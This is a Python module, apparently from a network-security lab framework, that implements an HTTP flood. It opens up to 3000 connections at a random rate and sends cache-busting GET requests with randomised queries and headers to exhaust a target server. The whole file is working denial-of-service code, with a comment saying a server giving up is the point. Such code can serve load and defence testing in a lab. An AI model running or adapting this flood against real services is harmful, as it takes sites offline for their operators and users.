"""A small HTTP flood: requests no cache can answer, over connections that come at a given rate.

Options: `connections`, `rate` (of them a second, default 40), `requests` [1, 3] on each, `gap_s` [0, 0.2] between
those, `paths` (searches), `tls`.
"""

from __future__ import annotations

import asyncio
import re
import ssl

from netwarden.lab.attacks import targets
from netwarden.lab.clients.sessions import trusting
from netwarden.lab.play import Part, enter

_PATHS = ("/search?q={n}", "/product?id={n}", "/page-1.html?{n}", "/api/list?size=600&{n}")
_PATIENCE_S = 5.0
_MOST_CONNECTIONS = 3000


def main() -> None:
    part = enter()
    answers = asyncio.run(_flood(part))
    part.report(connections=len(answers), answers=sum(answers))


async def _flood(part: Part) -> list[int]:
    """Answers that each connection got."""
    rate, going = float(part.options.get("rate", 40)), list[asyncio.Task[int]]()
    hosts, tls = targets.addresses(part), trusting() if part.options.get("tls") else None
    for nth in range(min(part.options["connections"], _MOST_CONNECTIONS)):
        going.append(asyncio.create_task(_connect(part, hosts[nth % len(hosts)], tls)))
        await asyncio.sleep(min(part.rng.expovariate(rate), part.remaining()))
        if part.remaining() <= 0:
            break
    return list(await asyncio.gather(*going))


async def _connect(part: Part, address: str, tls: ssl.SSLContext | None) -> int:
    answered, port = 0, part.options.get("port", 443 if tls else 80)
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(address, port, ssl=tls), _PATIENCE_S)
        async with asyncio.timeout(_PATIENCE_S * 2):
            for _ in range(part.rng.randint(*part.options.get("requests", (1, 3)))):
                path = part.rng.choice(part.options.get("paths", _PATHS)).format(n=part.rng.randint(1, 10**6))
                writer.write(f"GET {path} HTTP/1.1\r\nHost: {address}\r\nX-Id: {part.rng.random()}\r\n\r\n".encode())
                await _read_answer(reader)
                answered += 1
                await asyncio.sleep(min(part.rng.uniform(*part.options.get("gap_s", (0.0, 0.2))), part.remaining()))
        writer.close()
    except (OSError, EOFError, TimeoutError):
        pass  # a server that gives up is what a flood is for
    return answered


async def _read_answer(reader: asyncio.StreamReader) -> None:
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    if length := re.search(rb"content-length: *(\d+)", head):
        await reader.readexactly(int(length[1]))


if __name__ == "__main__":
    main()
